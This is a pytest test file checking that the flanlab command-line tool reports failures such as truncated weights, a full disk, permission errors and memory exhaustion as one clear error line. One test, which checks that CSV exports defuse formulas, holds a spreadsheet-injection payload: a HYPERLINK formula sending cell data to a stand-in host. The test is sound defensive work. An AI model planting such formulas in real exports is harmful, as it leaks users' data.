"""Every failure a user can cause or meet ends in one line naming the file and what to do, with a non-zero exit;
--debug (or FLANLAB_DEBUG=1) shows the traceback; a bug keeps its traceback and says it is one (issue 11, 8-9).

The disk-full tests mount a small tmpfs (root only) and skip, saying why, where that is not possible."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
import yaml

from flanlab.cli import main
from flanlab.errors import FlanlabError, bug_message, user_message

REPO = Path(__file__).resolve().parents[1]


@pytest.fixture
def private(monkeypatch, tmp_path):
    """No data dir, a private cache, no FLANLAB_DEBUG from the caller's environment."""
    monkeypatch.delenv("FLANLAB_DATA_DIR", raising=False)
    monkeypatch.delenv("FLANLAB_DEBUG", raising=False)
    monkeypatch.setenv("FLANLAB_CACHE", str(tmp_path / "cache"))


@pytest.fixture(scope="module")
def tiny_folder(tmp_path_factory) -> Path:
    """tiny-llama saved as a Hugging Face folder (safetensors)."""
    from flanlab.models import load

    folder = tmp_path_factory.mktemp("models") / "tiny"
    lm = load("tiny-llama", device="cpu")
    lm.model.save_pretrained(folder, safe_serialization=True)
    lm.tokenizer.save_pretrained(folder)
    return folder


def broken_copy(tiny_folder: Path, dest: Path, keep_bytes: int | None) -> Path:
    """A copy of the tiny folder whose model.safetensors is cut to keep_bytes (0: empty)."""
    shutil.copytree(tiny_folder, dest)
    weights = dest / "model.safetensors"
    os.truncate(weights, keep_bytes)
    return dest


def one_error_line(err: str, command: str) -> str:
    """The one line of stderr besides progress bars (tqdm redraws "desc: NN%|...| n/N [...]" after carriage returns)."""
    text = re.sub(r"[^\r\n]*?\d+%\|[^|\r\n]*\|[^\]\r\n]*\]", "", err)
    lines = [line for line in re.split(r"[\r\n]+", text) if line.strip()]
    assert "Traceback" not in err, err
    assert len(lines) == 1, err
    assert lines[0].startswith(f"flanlab {command}: error: "), err
    return lines[0]


# ----------------------------------------------------------------------------------------------------------
# truncated and empty weights


@pytest.mark.parametrize("keep", [0, 5, 1000, 300_000], ids=["empty", "5-bytes", "cut-in-header", "cut-in-data"])
def test_generate_on_truncated_weights_is_one_line(private, tiny_folder, tmp_path, capsys, keep):
    folder = broken_copy(tiny_folder, tmp_path / "m", keep)
    assert main(["generate", "--model", str(folder), "hello"]) == 1
    line = one_error_line(capsys.readouterr().err, "generate")
    assert f"{folder / 'model.safetensors'} is not a valid safetensors file" in line
    assert "re-download or re-export it" in line


def test_eval_on_truncated_weights_is_one_line(private, tiny_folder, tmp_path, capsys):
    folder = broken_copy(tiny_folder, tmp_path / "m", 1000)
    rc = main(["eval", "--model", str(folder), "--suite", "synthetic", "--modes", "direct", "--limit", "1",
               "-o", str(tmp_path / "ev")])
    assert rc == 1
    assert str(folder / "model.safetensors") in one_error_line(capsys.readouterr().err, "eval")


def test_debug_shows_the_traceback(private, tiny_folder, tmp_path, monkeypatch):
    from flanlab.models import ModelLoadError

    folder = broken_copy(tiny_folder, tmp_path / "m", 1000)
    for argv in (["--debug", "generate", "--model", str(folder), "hi"],
                 ["generate", "--debug", "--model", str(folder), "hi"]):
        with pytest.raises(ModelLoadError, match="not a valid safetensors file"):
            main(argv)
    monkeypatch.setenv("FLANLAB_DEBUG", "1")
    with pytest.raises(ModelLoadError):
        main(["generate", "--model", str(folder), "hi"])
    monkeypatch.setenv("FLANLAB_DEBUG", "0")  # "0" means off
    assert main(["generate", "--model", str(folder), "hi"]) == 1


def test_a_real_process_prints_one_line_and_debug_the_traceback(tiny_folder, tmp_path):
    folder = broken_copy(tiny_folder, tmp_path / "m", 0)
    env = {k: v for k, v in os.environ.items() if k not in ("FLANLAB_DEBUG", "FLANLAB_DATA_DIR")}
    env.update(HF_HUB_OFFLINE="1", FLANLAB_CACHE=str(tmp_path / "cache"))
    cmd = [sys.executable, "-m", "flanlab.cli", "generate", "--model", str(folder), "hi"]
    quiet = subprocess.run(cmd, capture_output=True, text=True, env=env, cwd=REPO)
    assert quiet.returncode == 1
    assert "(it is empty)" in one_error_line(quiet.stderr, "generate")
    loud = subprocess.run(cmd, capture_output=True, text=True, env={**env, "FLANLAB_DEBUG": "1"}, cwd=REPO)
    assert loud.returncode != 0 and "Traceback" in loud.stderr and "ModelLoadError" in loud.stderr


def test_a_broken_json_file_of_a_model_folder_is_named(private, tiny_folder, tmp_path, capsys):
    folder = tmp_path / "m"
    shutil.copytree(tiny_folder, folder)
    (folder / "tokenizer_config.json").write_text('{"model_max_length": 1e30,\n  nope', encoding="utf-8")
    assert main(["generate", "--model", str(folder), "hi"]) == 1
    line = one_error_line(capsys.readouterr().err, "generate")
    assert f"{folder / 'tokenizer_config.json'}:2: not valid JSON" in line


def test_a_file_that_is_not_utf8_is_named(private, tmp_path, capsys):
    binary = bytes(range(128, 256)) * 8
    (tmp_path / "bin.jsonl").write_bytes(binary)
    config = mix_config(tmp_path, [{"name": "b", "path": "bin.jsonl"}])
    assert main(["mix", str(config), "-o", str(tmp_path / "out"), "--no-progress"]) == 1
    assert f"{tmp_path / 'bin.jsonl'} is not UTF-8 text" in one_error_line(capsys.readouterr().err, "mix")
    (tmp_path / "mix.yaml").write_bytes(binary)  # the config itself
    assert main(["mix", str(config), "-o", str(tmp_path / "out"), "--no-progress"]) == 1
    assert f"{config} is not UTF-8 text" in one_error_line(capsys.readouterr().err, "mix")
    (tmp_path / "results.json").write_bytes(binary)
    assert main(["normavg", str(tmp_path / "results.json")]) == 1
    assert f"{tmp_path / 'results.json'} is not UTF-8 text" in one_error_line(capsys.readouterr().err, "normavg")


# ----------------------------------------------------------------------------------------------------------
# open-gen: a model that fails to load leaves no output folder


def test_open_gen_with_truncated_weights_leaves_nothing(private, tiny_folder, tmp_path, capsys):
    folder = broken_copy(tiny_folder, tmp_path / "m", 1000)
    out = tmp_path / "open"
    # the broken model second: it is checked before the first one answers anything
    assert main(["open-gen", "--model", "tiny-llama", "--model", str(folder), "--limit", "2",
                 "--max-new-tokens", "2", "-o", str(out)]) == 1
    assert "not a valid safetensors file" in one_error_line(capsys.readouterr().err, "open-gen")
    assert not out.exists()


def test_open_gen_with_a_model_that_fails_to_load_leaves_nothing(private, tiny_folder, tmp_path, capsys):
    folder = tmp_path / "m"
    shutil.copytree(tiny_folder, folder)
    (folder / "config.json").write_text('{"model_type": "llama",', encoding="utf-8")  # cut short
    out = tmp_path / "open"
    assert main(["open-gen", "--model", str(folder), "--model", "tiny-llama", "--limit", "2",
                 "--max-new-tokens", "2", "-o", str(out)]) == 1
    assert "config.json" in one_error_line(capsys.readouterr().err, "open-gen")
    assert not out.exists()


# ----------------------------------------------------------------------------------------------------------
# a full disk (a small tmpfs), and a read-only one


@pytest.fixture
def small_disk(tmp_path):
    """A 256 KB tmpfs mounted for the test (unmounted after it)."""
    mount = shutil.which("mount")
    if mount is None or os.geteuid() != 0:
        pytest.skip("a disk-full test mounts a small tmpfs, which needs root and the mount command")
    mnt = tmp_path / "disk"
    mnt.mkdir()
    r = subprocess.run([mount, "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(mnt)], capture_output=True, text=True)
    if r.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {r.stderr.strip() or r.returncode}")
    try:
        yield mnt
    finally:  # lazily where a failed test's traceback still holds a file open on it
        if subprocess.run(["umount", str(mnt)], capture_output=True).returncode != 0:
            subprocess.run(["umount", "-l", str(mnt)], check=False)


def fill(disk: Path, leave: int) -> None:
    """Fill the disk up to `leave` bytes free."""
    free = shutil.disk_usage(disk).free
    with open(disk / "filler", "wb") as f:
        try:
            f.write(b"\0" * max(0, free - leave))
        except OSError as e:
            assert e.errno == errno.ENOSPC


def demo_mix(out: Path) -> list[str]:
    return ["mix", str(REPO / "configs" / "mixtures" / "demo.yaml"), "-o", str(out), "--no-progress"]


@pytest.mark.parametrize("leave", [None, 0], ids=["fills-while-writing", "full-from-the-start"])
def test_mix_on_a_full_disk_is_one_line(private, small_disk, capsys, leave):
    if leave is not None:
        fill(small_disk, leave)
    out = small_disk / "mix"
    assert main(demo_mix(out)) == 1
    line = one_error_line(capsys.readouterr().err, "mix")
    assert "no space left on device writing" in line and str(out) in line
    assert "free some space or choose another output folder" in line
    assert not out.exists()
    assert not [p for p in small_disk.iterdir() if p.name.endswith(".tmp")]  # no half-written temporary left


def test_eval_on_a_full_disk_is_one_line(private, small_disk, capsys):
    fill(small_disk, 16 * 1024)  # room for the item cache, not for samples.jsonl
    out = small_disk / "ev"
    assert main(["eval", "--model", "tiny-llama", "--suite", "synthetic", "--modes", "direct", "--limit", "1",
                 "-o", str(out)]) == 1
    line = one_error_line(capsys.readouterr().err, "eval")
    assert "no space left on device writing" in line and str(out) in line


def test_train_on_a_full_disk_is_one_line(private, small_disk, tmp_path, capsys):
    data = tmp_path / "mix"
    data.mkdir()
    rows = [{"inputs": f"Reverse: {i} {i + 1}", "targets": f"{i + 1} {i}", "task": "r", "category": "s",
             "template_id": "t0", "format": "zs_noopt", "source": "s"} for i in range(64)]
    (data / "train-00000-of-00001.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    (data / "validation.jsonl").write_text("", encoding="utf-8")
    config = tmp_path / "train.yaml"
    config.write_text(yaml.safe_dump({
        "model": "tiny-llama", "data": str(data), "output_dir": str(small_disk / "run"), "steps": 2, "batch_size": 8,
        "lr": 1e-2, "max_input_len": 64, "max_target_len": 32, "pack_len": 128, "pack_target_len": 48,
        "save_every": 1, "threads": 1}), encoding="utf-8")  # a checkpoint (~1 MB) does not fit in 256 KB
    assert main(["train", str(config), "--no-progress"]) == 1
    err = "\n".join(x for x in capsys.readouterr().err.splitlines() if not x.startswith("[flanlab] "))
    line = one_error_line(err, "train")  # besides train's own setup line
    assert f"no space left on device writing {small_disk / 'run'}" in line


def test_mix_on_a_read_only_disk_is_one_line(private, small_disk, capsys):
    subprocess.run(["mount", "-o", "remount,ro", str(small_disk)], check=True)
    try:
        assert main(demo_mix(small_disk / "mix")) == 1
        line = one_error_line(capsys.readouterr().err, "mix")
        assert "read-only file system" in line and str(small_disk) in line
    finally:
        subprocess.run(["mount", "-o", "remount,rw", str(small_disk)], check=False)


def test_permission_denied_is_one_line(tmp_path):
    """A real EACCES: root is never refused, so the command runs as user nobody (65534), writing into a folder of
    root's; skipped, saying why, where that cannot be arranged."""
    setpriv = shutil.which("setpriv")
    if setpriv is None or os.geteuid() != 0:
        pytest.skip("running a command as another user needs root and setpriv (util-linux)")
    base = Path(tempfile.mkdtemp(prefix="flanlab-eacces-"))  # /tmp: tmp_path's parents are private to root
    try:
        base.chmod(0o755)  # nobody may enter, not write
        cache = base / "cache"
        cache.mkdir()
        cache.chmod(0o777)
        env = {k: v for k, v in os.environ.items() if k not in ("FLANLAB_DEBUG", "FLANLAB_DATA_DIR")}
        env.update(HF_HUB_OFFLINE="1", FLANLAB_CACHE=str(cache), HOME=str(cache))
        out = base / "mix"
        r = subprocess.run([setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable, "-m",
                            "flanlab.cli", *demo_mix(out)], capture_output=True, text=True, env=env, cwd=REPO)
        if "ModuleNotFoundError" in r.stderr or "Permission denied: '" + str(REPO) in r.stderr:
            pytest.skip(f"user nobody cannot run flanlab from {REPO} here")
        assert r.returncode == 1
        line = one_error_line(r.stderr, "mix")
        assert line.startswith(f"flanlab mix: error: permission denied: {base}/"), line
        assert "check its permissions, or choose another path" in line
        assert not out.exists()
    finally:
        shutil.rmtree(base, ignore_errors=True)


# ----------------------------------------------------------------------------------------------------------
# the translation itself: errno, memory, bugs


@pytest.mark.parametrize("error, expected", [
    (PermissionError(errno.EACCES, "Permission denied", "/x/results.json"), "permission denied: /x/results.json: "),
    (OSError(errno.ENOSPC, "No space left on device"), "no space left on device writing under OUT: free some space"),
    (OSError(errno.ENOSPC, "No space left on device", "/o/a.jsonl"), "no space left on device writing /o/a.jsonl"),
    (OSError(errno.EROFS, "Read-only file system", "/o"), "read-only file system writing /o: "),
    (FileNotFoundError(errno.ENOENT, "No such file or directory", "/in.yaml"), "no such file or folder: /in.yaml"),
    (FileNotFoundError("prompt file not found: p.jsonl"), "prompt file not found: p.jsonl"),
    (MemoryError(), "out of memory: lower --batch-size"),
    (type("SafetensorError", (Exception,), {})("Error while serializing: I/O error: No space left on device "
                                               "(os error 28)"), "no space left on device writing under OUT"),
    (RuntimeError("DefaultCPUAllocator: can't allocate memory: you tried to allocate 10 bytes"), "out of memory"),
    (KeyError("unknown model 'x'. Presets: a, b."), "unknown model 'x'. Presets: a, b."),
    (FlanlabError("f.yaml: lr: must be > 0"), "f.yaml: lr: must be > 0"),
])
def test_user_messages(error, expected):
    assert expected in user_message(error, ["OUT"])


def test_a_failed_atomic_write_names_its_destination(tmp_path):
    from flanlab.fileio import atomic_dir

    with pytest.raises(OSError) as caught, atomic_dir(tmp_path / "ckpt"):
        raise type("SafetensorError", (Exception,), {})("Error while serializing: I/O error: No space left on "
                                                        "device (os error 28)")
    assert caught.value.errno == errno.ENOSPC and caught.value.filename == str(tmp_path / "ckpt")
    with pytest.raises(OSError) as caught, atomic_dir(tmp_path / "out"):
        raise OSError(errno.ENOSPC, "No space left on device")
    assert caught.value.filename == str(tmp_path / "out")
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("error", [KeyError("answer"), IndexError("list index out of range"), TypeError("x"),
                                   AttributeError("y")])
def test_bugs_get_no_user_message(error):
    assert user_message(error, []) is None


def test_a_config_value_of_the_wrong_shape_is_one_line(private, tmp_path, capsys):
    config = tmp_path / "train.yaml"
    config.write_text(yaml.safe_dump({"model": "tiny-llama", "data": str(tmp_path), "output_dir": str(tmp_path / "run"),
                                      "adam_betas": [0.9]}), encoding="utf-8")  # was an IndexError traceback
    assert main(["train", str(config)]) == 1
    line = one_error_line(capsys.readouterr().err, "train")
    assert str(config) in line and "adam_betas" in line


def test_a_real_allocation_failure_reads_out_of_memory():
    import torch

    with pytest.raises(RuntimeError) as caught:
        torch.empty(1 << 52, dtype=torch.uint8)  # 4 PiB: the CPU allocator refuses at once
    assert user_message(caught.value, []).startswith("out of memory: lower --batch-size")


def test_torch_out_of_memory_is_one_line(private, monkeypatch, capsys):
    import torch

    import flanlab.models

    def oom(*args, **kwargs):
        raise torch.OutOfMemoryError("CUDA out of memory. Tried to allocate 2.00 GiB")

    monkeypatch.setattr(flanlab.models, "generate_one", oom)
    assert main(["generate", "--model", "tiny-llama", "hi"]) == 1
    assert "out of memory: lower --batch-size" in one_error_line(capsys.readouterr().err, "generate")


def test_a_bug_keeps_its_traceback_and_says_so(private, monkeypatch, capsys):
    import flanlab.commands.normavg

    def broken(args):
        return {}["answer"]  # a bare KeyError: flanlab's fault, not the user's

    monkeypatch.setattr(flanlab.commands.normavg, "run", broken)
    assert main(["normavg", "x.json"]) == 1
    err = capsys.readouterr().err
    assert "Traceback" in err and "KeyError: 'answer'" in err
    assert err.strip().splitlines()[-1] == f"flanlab normavg: {bug_message(KeyError('answer'))}"
    assert "this is a bug in flanlab" in err


# ----------------------------------------------------------------------------------------------------------
# item 9: CSV formula injection, a single-line JSONL mixture source


def test_csv_exports_defuse_formulas():
    from flanlab.rate.stats import ratings_csv, summarize, summary_csv

    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    rating = {"id": 1, "rater": evil, "prompt_id": "p1", "category": "planning", "variant": "zero_shot",
              "model_a": "@a", "model_b": "-b", "left_model": "@a", "right_model": "-b", "choice": "left",
              "winner": "@a", "created": "2026-12-04T00:00:00"}
    row = next(csv.DictReader(io.StringIO(ratings_csv([rating]))))
    assert row["rater"] == "'" + evil
    assert (row["model_a"], row["model_b"], row["winner"]) == ("'@a", "'-b", "'@a")
    assert row["id"] == "1" and row["prompt_id"] == "p1"  # ordinary cells unchanged
    for cell in ("+1", "\tx"):
        assert next(csv.DictReader(io.StringIO(ratings_csv([{**rating, "rater": cell}]))))["rater"] == "'" + cell
    assert ",\"'\rx\"," in ratings_csv([{**rating, "rater": "\rx"}])  # quoted: csv reads it back as one cell
    assert next(csv.DictReader(io.StringIO(ratings_csv([{**rating, "rater": "\rx"}]), newline="")))["rater"] == "'\rx"
    summary = list(csv.DictReader(io.StringIO(summary_csv(summarize([rating])))))
    assert summary[0]["model_a"] == "'@a" and summary[0]["model_b"] == "'-b"
    assert float(summary[0]["win_rate_a"]) == 1.0  # numbers stay numbers


def mix_config(tmp_path: Path, files: list[dict]) -> Path:
    cfg = {"name": "t", "size": 40, "submixtures": [{"name": "files", "files": files}]}
    path = tmp_path / "mix.yaml"
    path.write_text(yaml.safe_dump(cfg), encoding="utf-8")
    return path


def one_huge_record(path: Path, megabytes: int = 2) -> Path:
    path.write_text(json.dumps({"question": "word " * (megabytes << 18), "answer": "yes"}) + "\n", encoding="utf-8")
    return path


def small_records(path: Path) -> Path:
    path.write_text("".join(json.dumps({"question": f"what is {i}?", "answer": str(i)}) + "\n" for i in range(30)),
                    encoding="utf-8")
    return path


def test_a_mixture_of_one_huge_line_fails_saying_why(private, tmp_path, capsys):
    one_huge_record(tmp_path / "big.jsonl")
    config = mix_config(tmp_path, [{"name": "big", "path": "big.jsonl"}])
    out = tmp_path / "out"
    assert main(["mix", str(config), "-o", str(out), "--no-progress"]) == 1
    line = one_error_line(capsys.readouterr().err, "mix")
    assert f"{config}: the mixture has no training examples" in line
    assert "task big ran out of new examples and produced none" in line
    assert "too_long" in line and "max_input_tokens 1024" in line
    assert not out.exists()
    assert main(["mix", str(config), "--preview", "2"]) == 1  # a preview says so too, instead of printing nothing
    line = one_error_line(capsys.readouterr().err, "mix")
    assert f"{config}: the mixture has no training examples: task big produced none" in line and "too_long" in line


def test_a_task_with_no_examples_is_named_with_the_reason(private, tmp_path):
    from flanlab.data.mixture import build_mixture, load_mixture_config

    one_huge_record(tmp_path / "big.jsonl")
    small_records(tmp_path / "small.jsonl")
    config = mix_config(tmp_path, [{"name": "big", "path": "big.jsonl"}, {"name": "small", "path": "small.jsonl"}])
    stats = build_mixture(load_mixture_config(config), tmp_path / "out", progress=False)
    assert stats["tasks"]["big"]["examples"] == 0 and stats["size"]["written"] > 0
    [warning] = [w for w in stats["warnings"] if w.startswith("task big")]
    assert "produced none" in warning and "too_long" in warning and "max_input_tokens" in warning


def test_a_json_array_on_one_line_of_a_jsonl_file_names_file_line_and_fix(private, tmp_path, capsys):
    rows = [{"question": f"q{i}", "answer": "a"} for i in range(1000)]
    (tmp_path / "arr.jsonl").write_text(json.dumps(rows) + "\n", encoding="utf-8")
    config = mix_config(tmp_path, [{"name": "arr", "path": "arr.jsonl"}])
    assert main(["mix", str(config), "-o", str(tmp_path / "out"), "--no-progress"]) == 1
    line = one_error_line(capsys.readouterr().err, "mix")
    assert f"{tmp_path / 'arr.jsonl'}:1: expected a JSON object, found a list" in line and "name it .json" in line
    (tmp_path / "arr.jsonl").rename(tmp_path / "arr.json")  # the fix the message gives works
    config = mix_config(tmp_path, [{"name": "arr", "path": "arr.json"}])
    assert main(["mix", str(config), "-o", str(tmp_path / "out"), "--no-progress"]) == 0
